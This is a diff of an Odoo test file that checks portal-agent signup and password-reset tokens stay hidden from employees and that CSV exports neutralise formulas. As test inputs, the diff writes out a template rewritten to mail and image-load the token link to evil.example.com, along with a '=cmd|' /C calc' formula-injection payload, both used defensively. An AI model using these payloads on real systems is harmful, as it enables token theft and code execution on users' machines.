@@ -2,11 +2,18 @@ import base64
 import csv
 import io
 from contextlib import contextmanager
+from datetime import datetime, timedelta
 from unittest.mock import patch
+from urllib.parse import parse_qs, urlsplit
 
+from freezegun import freeze_time
+from lxml import html
 from reportlab.pdfgen.canvas import Canvas
 
+from odoo import SUPERUSER_ID
 from odoo.exceptions import AccessError, UserError
+from odoo.fields import Command
+from odoo.http import Request
 from odoo.tests import new_test_user, tagged
 from odoo.tools import mute_logger
 
@@ -49,27 +56,44 @@ class TestInvitationSecrets(MailCase, SecretsCommon):
         return self.env["mail.message"].with_user(user).search([("body", "like", "/web/signup")])
 
     def _get_invitation(self):
-        mail = self.env["mail.mail"].search([("recipient_ids", "in", self.agent.partner_id.ids)])
+        mail = self.agent.portal_agent_invitation_ids.mail_id
         self.assertEqual(len(mail), 1)
         return mail
 
-    @mute_logger("odoo.addons.mail.models.mail_render_mixin")
-    def test_employee_who_renders_the_template_gets_nobodys_link(self):
-        template = self.env.ref(TEMPLATE)
-        for victim in (self.agent, self.administrator):
-            victim.partner_id.signup_prepare()
-            before = self.env["mail.mail"].search_count([])
-            with self.subTest(victim=victim.login), self.assertRaises(UserError) as refusal:
-                template.with_user(self.employee).send_mail(victim.id, email_values={"email_to": "me@evil.example.com"})
-            self.assertIsInstance(refusal.exception.__cause__, AccessError)
-            self.assertEqual(self.env["mail.mail"].search_count([]), before)
-
-    def test_template_has_a_link_for_agents_only_whoever_renders_it(self):
+    def test_template_has_no_link_whoever_renders_it(self):
         everybody = self.agent + self.portal_user + self.employee
         everybody.partner_id.signup_prepare()
-        for user, has_link in zip(everybody, (True, False, False), strict=True):
-            mail = self.env.ref(TEMPLATE).with_user(self.administrator).send_mail_batch(user.ids)
-            self.assertEqual("token=" in mail.body_html, has_link, user.login)
+        for reader in (self.employee, self.administrator, self.env.user):
+            mails = self.env.ref(TEMPLATE).with_user(reader).send_mail_batch(everybody.ids)
+            for mail in mails:
+                self.assertIn("/my/agent", mail.body_html)
+                self.assertNotIn("token=", mail.body_html)
+
+    def test_template_that_an_employee_has_edited_does_not_send_the_link_elsewhere(self):
+        self.employee.group_ids += self.env.ref("mail.group_mail_template_editor")  # Odoo's default for employees
+        self.env.ref(TEMPLATE).with_user(self.employee).write(
+            {
+                "email_to": "me@evil.example.com",
+                "email_cc": "me@evil.example.com",
+                "partner_to": str(self.employee.partner_id.id),
+                "body_html": """
+                    <a t-att-href="object.get_base_url() + '/my/agent'">Go</a>
+                    <img t-attf-src="https://evil.example.com/?{{ object.get_base_url() }}/my/agent"/>
+                """,
+            }
+        )
+        self.agent.with_user(self.administrator).action_send_portal_agent_invitation()
+        with self.mock_mail_gateway():
+            self._get_invitation().send()
+        [mail] = self._mails
+        self.assertEqual((mail["email_to"], mail["email_cc"]), (["ann@agents.example.com"], []))
+        self.assertEqual(mail["body"].count("token="), 1)
+        self.assertNotIn("token=", mail["body"].partition("<img")[2])
+
+    def test_template_without_any_link_is_sent_with_one(self):
+        self.env.ref(TEMPLATE).body_html = "<p>Welcome</p>"
+        self.agent.action_send_portal_agent_invitation()
+        self.assertIn("token=", self._get_invitation().body_html)
 
     def test_invitation_in_a_language_that_runs_from_right_to_left_does(self):
         self.agent.partner_id.signup_prepare()
@@ -84,12 +108,14 @@ class TestInvitationSecrets(MailCase, SecretsCommon):
 
     def test_queued_invitation_is_no_message_that_an_employee_reads(self):
         self.agent.with_user(self.administrator).action_send_portal_agent_invitation()
-        self.assertTrue(self._get_messages_with_a_link(self.env.user), "it is there")
+        mail = self._get_invitation()
+        self.assertIn("token=", mail.body_html)
+        self.assertFalse(self._get_messages_with_a_link(self.env.user), "not even for the administrator")
         for user in (self.employee, self.contact_manager, self.portal_user, self.other_agent):
-            self.assertFalse(self._get_messages_with_a_link(user), user.login)
-        message = self._get_messages_with_a_link(self.env.user)
-        with self.assertRaises(AccessError):
-            message.with_user(self.employee).read(["body"])
+            with self.assertRaises(AccessError):
+                mail.with_user(user).read(["body_html"])
+            with self.assertRaises(AccessError):
+                mail.mail_message_id.with_user(user).read(["body"])
 
     def test_invitation_that_a_mail_server_refused_is_not_readable_either(self):
         self.agent.with_user(self.administrator).action_send_portal_agent_invitation()
@@ -102,7 +128,8 @@ class TestInvitationSecrets(MailCase, SecretsCommon):
         ):
             mail.send()
         self.assertEqual(mail.state, "exception")
-        self.assertFalse(self._get_messages_with_a_link(self.employee))
+        with self.assertRaises(AccessError):
+            mail.with_user(self.employee).read(["body_html"])
 
     def test_nothing_of_an_invitation_is_kept_once_it_is_sent(self):
         self.agent.action_send_portal_agent_invitation()
@@ -110,6 +137,140 @@ class TestInvitationSecrets(MailCase, SecretsCommon):
             self._get_invitation().send()
         self.assertEqual(len(self._mails), 1)
         self.assertFalse(self._get_messages_with_a_link(self.env.user))
+
+
+@tagged("post_install", "-at_install")
+class TestLinksOfAgents(SecretsCommon):
+    """Odoo's own templates have links to passwords: for an agent's, nobody gets one who may not change users."""
+
+    ODOO_TEMPLATES = ("auth_signup.set_password_email", "auth_signup.portal_set_password_email")
+
+    def _use_composer(self, user, template, **values):
+        composer = (
+            self.env["mail.compose.message"]
+            .with_user(user)
+            .create(
+                {
+                    "model": "res.users",
+                    "res_ids": str(self.agent.ids),
+                    "composition_mode": "mass_mail",
+                    "template_id": template.id,
+                    "partner_ids": [Command.link(user.partner_id.id)],
+                }
+                | values
+            )
+        )
+        composer.action_send_mail()
+
+    def _preview(self, user, template):
+        preview = self.env["mail.template.preview"].with_user(user).create({"mail_template_id": template.id})
+        preview.resource_ref = f"res.users,{self.agent.id}"
+        self.seen.append(preview.body_html)
+
+    def _get_attempts(self, template):
+        """Return the ways to have a template rendered, as functions of who does it."""
+        own = self.employee.partner_id
+        return {
+            "composer": lambda user: self._use_composer(user, template),
+            "composer by comment": lambda user: self._use_composer(user, template, composition_mode="comment"),
+            "composer with a date": lambda user: self._use_composer(user, template, scheduled_date="2099-01-01"),
+            "send_mail": lambda user: template.with_user(user).send_mail(self.agent.id),
+            "send_mail with sudo": lambda user: template.with_user(user).sudo().send_mail(self.agent.id),
+            "preview": lambda user: self._preview(user, template),
+            "message_post_with_source": lambda user: own.with_user(user).message_post_with_source(
+                template, render_values={"object": self.agent.with_user(user)}
+            ),
+            "method": lambda user: self.seen.append(self.agent.partner_id.with_user(user)._get_signup_url()),
+            "method with sudo": lambda user: self.seen.append(
+                str(self.agent.partner_id.with_user(user).sudo()._get_signup_url_for_action())
+            ),
+        }
+
+    def _see(self, attempt, user):
+        """Make an attempt, and return all that is in the database and in the answer afterwards."""
+        self.seen = []
+        self.env.flush_all()
+        before = self.env["mail.mail"].search([])
+        messages_before = self.env["mail.message"].search([])
+        with mute_logger("odoo.addons.mail.models.mail_render_mixin"):
+            try:
+                with self.env.cr.savepoint():
+                    attempt(user)
+            except (AccessError, UserError):
+                return ""
+        self.env.flush_all()
+        mails = self.env["mail.mail"].search([]) - before
+        messages = self.env["mail.message"].search([]) - messages_before
+        return "".join(map(str, [*mails.mapped("body_html"), *messages.mapped("body"), *self.seen]))
+
+    def test_employee_gets_no_link_of_an_agent_by_any_template_and_any_way(self):
+        self.agent.partner_id.signup_prepare()
+        for name in (TEMPLATE, *self.ODOO_TEMPLATES):
+            for way, attempt in self._get_attempts(self.env.ref(name)).items():
+                for user in (self.employee, self.contact_manager, self.portal_user):
+                    with self.subTest(template=name, way=way, user=user.login):
+                        self.assertNotIn("token=", self._see(attempt, user))
+
+    def test_administrator_gets_it_by_odoos_own(self):
+        """The attempts fail for the reason that they should."""
+        self.agent.partner_id.signup_prepare()
+        for name in self.ODOO_TEMPLATES:
+            attempts = self._get_attempts(self.env.ref(name))
+            for way in ("composer", "send_mail", "preview", "method", "method with sudo"):
+                with self.subTest(template=name, way=way):
+                    self.assertIn("token=", self._see(attempts[way], self.administrator))
+
+    def test_code_that_nobody_is_behind_gets_it(self):
+        self.agent.partner_id.signup_prepare()
+        contact = self.agent.partner_id.with_user(SUPERUSER_ID)
+        self.assertIn("token=", contact._get_signup_url())
+
+    def test_links_of_people_who_are_no_agents_are_as_ever(self):
+        self.portal_user.partner_id.signup_prepare()
+        self.assertIn("token=", self.portal_user.partner_id.with_user(self.contact_manager).sudo()._get_signup_url())
+
+
+@tagged("post_install", "-at_install", "once")
+class TestForgottenPassword(MailCase, PortalAgentPagesCommon):
+    """Anybody may ask for a new password of anybody: it goes to the owner, and takes nothing away."""
+
+    def _ask_for_a_new_password(self, login):
+        with self.mock_mail_gateway():
+            response = self.url_open(
+                "/web/reset_password", data={"login": login, "csrf_token": Request.csrf_token(self)}
+            )
+        self.assertIn("sent", response.text)
+        [mail] = self._mails
+        return mail
+
+    def _get_link(self, body):
+        return next(link for link in html.fromstring(body).xpath("//a/@href") if "token=" in link)
+
+    def setUp(self):
+        super().setUp()
+        self.agent.partner_id.email = "ann@agents.example.com"
+        self.env["ir.config_parameter"].sudo().set_param("auth_signup.reset_password", "True")
+
+    def test_link_goes_to_the_agent_whoever_asks(self):
+        new_test_user(self.env, login="pa_employee", password="pa_employee", groups="base.group_user")
+        self.env["res.users.log"].with_user(self.agent).sudo().create({})
+        for asking in (None, "portal_plain", "pa_employee"):
+            self.authenticate(asking, asking)
+            mail = self._ask_for_a_new_password(self.agent.login)
+            self.assertEqual(mail["email_to"], ["ann@agents.example.com"])
+            self.assertIn("/web/reset_password?", self._get_link(mail["body"]))
+
+    def test_invitation_that_was_sent_works_after_a_stranger_asked_and_days_later(self):
+        agent = self.other_agent  # the first one has signed in
+        agent.action_send_portal_agent_invitation()
+        invited = self._get_link(agent.portal_agent_invitation_ids.mail_id.body_html)
+        self.authenticate(None, None)
+        asked = self._get_link(self._ask_for_a_new_password(agent.login)["body"])
+        for link in (invited, asked):
+            for later in (timedelta(), timedelta(days=5)):
+                with self.subTest(link=link[:40], later=later), freeze_time(datetime.now() + later):
+                    token = parse_qs(urlsplit(link).query)["token"][0]
+                    self.assertEqual(self.env["res.partner"].sudo()._get_partner_from_token(token), agent.partner_id)
 
 
 @tagged("post_install", "-at_install", "once")
@@ -301,14 +462,12 @@ class TestWhatStaysBehind(PortalAgentPagesCommon):
                 self._get(url)
                 self.assertEqual(self._count_files(record), files - 1, "nothing is kept of what an agent prints")
 
-    def test_no_part_of_a_cell_is_taken_for_a_formula(self):
-        for separator in (";", ",", "\t", "|", "\n", "\r\n", "; ", ";\"", ';""'):
-            self.order.client_order_ref = f"Quill{separator}=cmd|' /C calc'!A0"
+    def test_cell_is_not_taken_for_a_formula_and_text_inside_of_it_stays(self):
+        for text, cell in (("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"), ("Quill;=1+1", "Quill;=1+1")):
+            self.order.client_order_ref = text
             content = self._get("/my/agent/orders/export", format="csv").content.decode("utf-8-sig")
             [row] = csv.DictReader(io.StringIO(content, newline=""))
-            stored = self.order.client_order_ref
-            self.assertEqual(len(row["Customer's reference"]), len(stored) + 1, separator)
-            self.assertRegex(row["Customer's reference"], r"""^Quill(?:[;,\t|]|\r?\n)'[ "]*=cmd""")
+            self.assertEqual(row["Customer's reference"], cell)
         self.order.client_order_ref = "Müller; Söhne, 2-3 | a@b.example.com"
         [row] = csv.DictReader(io.StringIO(self._get("/my/agent/orders/export").content.decode("utf-8-sig")))
         self.assertEqual(row["Customer's reference"], self.order.client_order_ref)
